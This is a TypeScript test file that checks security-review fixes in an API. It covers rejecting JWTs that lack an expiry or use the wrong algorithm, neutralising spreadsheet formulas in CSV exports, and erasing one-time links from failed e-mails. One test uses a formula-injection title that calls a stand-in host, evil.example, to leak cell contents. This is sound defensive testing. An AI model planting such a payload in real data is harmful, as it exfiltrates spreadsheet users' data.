/*
 * The fixes of the security review (docs/security.md): tokens without an expiry, formulas in CSV
 * exports, one-time links kept by e-mails given up on.
 */
import { sign } from 'jsonwebtoken';
import { actor, http, startTestSystem, TEST_JWT_SECRET, type TestSystem } from '../harness';

describe('security review', () => {
  let system: TestSystem;
  beforeAll(async () => {
    system = await startTestSystem({ worker: true, env: { MAIL_MAX_ATTEMPTS: '1' } });
  });
  afterAll(() => system?.close());

  it('refuses a correctly signed token that has no expiry, and tokens of another algorithm', async () => {
    const { user } = await actor(system, ['secretariat']);
    const claims = { sub: user.id, aud: 'mptf-api', iss: 'mptf' };
    const forever = sign(claims, TEST_JWT_SECRET, { algorithm: 'HS256' });
    expect((await http(system, 'GET', '/api/v1/me', { token: forever })).status).toBe(401);
    const hs512 = sign(claims, TEST_JWT_SECRET, { algorithm: 'HS512', expiresIn: 60 });
    expect((await http(system, 'GET', '/api/v1/me', { token: hs512 })).status).toBe(401);
    const fine = sign(claims, TEST_JWT_SECRET, { algorithm: 'HS256', expiresIn: 60 });
    expect((await http(system, 'GET', '/api/v1/me', { token: fine })).status).toBe(200);
  });

  it('exports a title that a spreadsheet would run as a formula as text', async () => {
    const applicant = await actor(system, ['applicant'], { organizationCode: 'IOM' });
    const secretariat = await actor(system, ['secretariat']);
    const title = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
    const created = await http(system, 'POST', '/api/v1/concept-notes', {
      token: applicant.token,
      body: { title },
    });
    expect(created.status).toBe(201);
    const csv = await http(system, 'GET', '/api/v1/concept-notes?format=csv', { token: secretariat.token });
    expect(csv.status).toBe(200);
    const text = String(csv.body);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")"`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('erases the one-time link of an e-mail it gives up on', async () => {
    const secretariat = await actor(system, ['secretariat']);
    system.smtp.refuse(1);
    const email = `given-up-${Date.now()}@test.mptf.org`;
    const invited = await http(system, 'POST', '/api/v1/users', {
      token: secretariat.token,
      body: { email, name: 'Given Up', roles: ['applicant'], organizationCode: 'IOM' },
    });
    expect(invited.status).toBe(201);
    const deadline = Date.now() + 30000;
    let row: { status: string; payload: Record<string, unknown> } | undefined;
    while (Date.now() < deadline) {
      [row] = await system.dataSource.query<{ status: string; payload: Record<string, unknown> }[]>(
        'SELECT status, payload FROM notifications WHERE recipient_email = $1',
        [email],
      );
      if (row?.status === 'failed') break;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    expect(row?.status).toBe('failed');
    expect(row?.payload).not.toHaveProperty('secret');
    expect(row?.payload).toHaveProperty('name', 'Given Up');
  });
});
